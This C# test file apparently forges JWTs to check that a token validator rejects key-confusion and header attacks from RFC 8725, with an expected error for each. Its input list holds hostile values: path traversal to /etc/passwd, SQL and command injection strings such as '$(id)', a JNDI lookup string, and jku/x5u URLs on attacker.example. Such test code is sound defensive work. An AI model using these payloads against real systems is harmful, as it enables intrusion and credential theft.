using System.Buffers.Text;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text.Json;

namespace Lectern.App.Tests.Access.Tokens;

/// <summary>RFC 8725, 2.6 and 3.10: the token brings its key along, or says where it is.</summary>
static class KeyAttacks
{
    static readonly RSA Rsa = RSA.Create(2048);
    static readonly ECDsa Ec = ECDsa.Create(ECCurve.NamedCurves.nistP256);

    /// <summary>Even where the right key signs: nothing of a key id reaches a file, a statement or a shell.</summary>
    static readonly string[] Injected =
    [
        "../../../../dev/null", "/dev/null", "/proc/sys/kernel/randomize_va_space", "..\\..\\secret", "file:///etc/passwd", "http://attacker.example/key", "' OR '1'='1", "x' UNION SELECT 'key'--", "rsa-1'--",
        "rsa-1\0", "\0rsa-1", "rsa-1\0.pem", "rsa-1 ", " rsa-1", "RSA-1", "rsa-1\n", "rsa-1;id", "| id", "$(id)", "`id`", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "%72sa-1", "rsa\u20101", "*", "rsa-*", "rsa-1,ec-1", "__proto__", "constructor", "0", "null",
    ];

    public static IEnumerable<Attack> All()
    {
        foreach (var id in Injected)
        {
            var kid = JsonSerializer.Serialize(id);
            yield return new($"RS256 with kid {Attack.Shown(id)}", Forge.Rs256(Forge.Claims(), $$"""{"alg":"RS256","kid":{{kid}}}"""), "token_key_unknown");
            yield return new($"HS256 by nothing with kid {Attack.Shown(id)}", Forge.Hs256(Forge.Claims(), $$"""{"alg":"HS256","kid":{{kid}}}""", secret: ""), "token_signature");
        }
        foreach (var kid in (string[])["\"\"", $"\"{new string('k', 257)}\"", $"\"{new string('k', 5_000)}\"", "1", "null", "true", "[\"rsa-1\"]", "{\"kid\":\"rsa-1\"}"])
        {
            yield return new($"RS256 with kid {Attack.Shown(kid)}", Forge.Rs256(Forge.Claims(), $$"""{"alg":"RS256","kid":{{kid}}}"""), "token_header");
        }

        yield return new("RS256 by the kid of the EC key", Forge.Rs256(Forge.Claims(), $$"""{"alg":"RS256","kid":"{{Forge.EcId}}"}"""), "token_key_unknown");
        yield return new("ES256 by the kid of the RSA key", Forge.Es256(Forge.Claims(), $$"""{"alg":"ES256","kid":"{{Forge.RsaId}}"}"""), "token_key_unknown");
        yield return new("an RSA key of one's own", Forge.Rs256(Forge.Claims(), key: Rsa), "token_signature");
        yield return new("an RSA key of one's own, no kid", Forge.Rs256(Forge.Claims(), """{"alg":"RS256"}""", Rsa), "token_signature");
        yield return new("an EC key of one's own", Forge.Es256(Forge.Claims(), key: Ec), "token_signature");
        yield return new("an EC key of one's own, no kid", Forge.Es256(Forge.Claims(), """{"alg":"ES256"}""", Ec), "token_signature");

        string[] brought =
        [
            $"\"jwk\":{Forge.JwkOf(Rsa, Forge.RsaId)}", "\"jwk\":null", $"\"jwk\":{Forge.RsaJwk}", "\"jwk\":{\"kty\":\"oct\",\"k\":\"AA\"}",
            "\"jku\":\"https://attacker.example/jwks\"", $"\"jku\":\"{Forge.Issuer}/../attacker\"", "\"jku\":\"http://127.0.0.1/jwks\"", "\"jku\":\"file:///dev/null\"", "\"jku\":null",
            "\"x5u\":\"https://attacker.example/x.pem\"", "\"x5u\":\"\"", "\"x5u\":1",
        ];
        foreach (var member in brought)
        {
            yield return new($"RS256 by one's own {Attack.Shown(member)}", Forge.Rs256(Forge.Claims(), $$"""{"alg":"RS256","kid":"{{Forge.RsaId}}",{{member}}}""", Rsa), "token_header_parameter");
            yield return new($"RS256 by the right key with {Attack.Shown(member)}", Forge.Rs256(Forge.Claims(), $$"""{"alg":"RS256","kid":"{{Forge.RsaId}}",{{member}}}"""), "token_header_parameter");
            yield return new($"HS256 by the secret with {Attack.Shown(member)}", Forge.Hs256(Forge.Claims(), $$"""{"alg":"HS256",{{member}}}"""), "token_header_parameter");
        }

        var certificate = Convert.ToBase64String(new CertificateRequest("CN=id.example.org", Rsa, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1)
            .CreateSelfSigned(DateTimeOffset.FromUnixTimeSeconds(Forge.Now - 10), DateTimeOffset.FromUnixTimeSeconds(Forge.Now + 10)).RawData);
        yield return new("x5c of one's own", Forge.Rs256(Forge.Claims(), $$"""{"alg":"RS256","kid":"{{Forge.RsaId}}","x5c":["{{certificate}}"]}""", Rsa), "token_signature");
        var thumbprint = Base64Url.EncodeToString(SHA256.HashData(Convert.FromBase64String(certificate)));
        yield return new("x5t#S256 of one's own", Forge.Rs256(Forge.Claims(), $$"""{"alg":"RS256","x5t#S256":"{{thumbprint}}"}""", Rsa), "token_signature");
    }
}
